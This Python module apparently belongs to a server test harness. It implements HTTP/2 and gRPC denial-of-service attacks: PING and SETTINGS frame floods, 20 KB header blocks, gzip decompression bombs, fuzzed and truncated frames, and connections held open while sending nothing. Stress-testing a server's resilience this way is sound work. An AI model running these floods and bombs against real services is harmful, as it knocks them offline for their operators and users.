"""Attacks by what no client needs to send: control frames, large heads, bombs, nonsense."""

import gzip
import random
import socket
import struct
import time

from support.attacks.floods import flood
from support.attacks.frames import PING, SETTINGS, Connection, frame, literals, request

_SOURCE = "127.0.0.1"
_AHEAD = 262_144  # bytes of a flood that the network has not taken yet
_PING = frame(PING, 0, 0, b"12345678")
_SETTINGS = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))


def ping_flood(address: str, a_second: float, seconds: float) -> int:
    """Send PING."""
    return flood(address, a_second, seconds, _SOURCE, lambda one: one.write(_PING), _AHEAD)


def settings_flood(address: str, a_second: float, seconds: float) -> int:
    """Send SETTINGS."""
    return flood(address, a_second, seconds, _SOURCE, lambda one: one.write(_SETTINGS), _AHEAD)


def large_heads(
    address: str, path: str, a_second: float, seconds: float, source: str = _SOURCE
) -> int:
    """Begin calls with 20 KB of metadata."""
    block = request(path) + literals([("x-one", "y" * 10_000), ("x-two", "z" * 10_000)])

    def write(connection: Connection) -> None:
        connection.open(block[:16_000], more=block[16_000:])

    return flood(address, a_second, seconds, source, write, _AHEAD)


def bombs(address: str, path: str, token: str, seconds: float, source: str = _SOURCE) -> int:
    """Send messages of 100 KB that would be 100 MB; return how many calls have ended.

    It ends before when its connection is closed.
    """
    bomb = gzip.compress(bytes(100 << 20))
    whole = b"\1" + struct.pack(">I", len(bomb)) + bomb
    block = request(path, token) + literals([("grpc-encoding", "gzip")])
    connection = Connection(address, source)
    left: dict[int, int] = {}
    until = time.monotonic() + seconds
    while time.monotonic() < until and not connection.closed:
        if len(left) < 10:
            left[connection.open(block)] = 0
        for stream, sent in left.items():
            left[stream] += connection.data(stream, whole[sent : sent + 16_384])
        left = {s: n for s, n in left.items() if n < len(whole) and s not in connection.over}
        connection.pump(0.001)
    connection.close()
    return len(connection.over)


def nonsense(address: str, a_second: float, seconds: float, seed: int = 1) -> int:
    """Send frames of random kinds, flags, streams and sizes, true and false; return how many."""
    chance = random.Random(seed)

    def write(connection: Connection) -> None:
        payload = chance.randbytes(chance.choice((0, 1, 4, 5, 8, 30, 1_000)))
        raw = frame(chance.randrange(12), chance.randrange(256), chance.randrange(8), payload)
        connection.write(raw if chance.random() < 0.9 else raw[: chance.randrange(len(raw))])

    return flood(address, a_second, seconds, _SOURCE, write, _AHEAD)


def silent_sockets(address: str, count: int, seconds: float) -> int:
    """Connect and say nothing; return how many were taken."""
    host, _, port = address.rpartition(":")
    opened = []
    try:
        for _ in range(count):
            opened.append(socket.create_connection((host, int(port)), 2.0))
    except OSError:
        pass
    time.sleep(seconds)
    for one in opened:
        one.close()
    return len(opened)
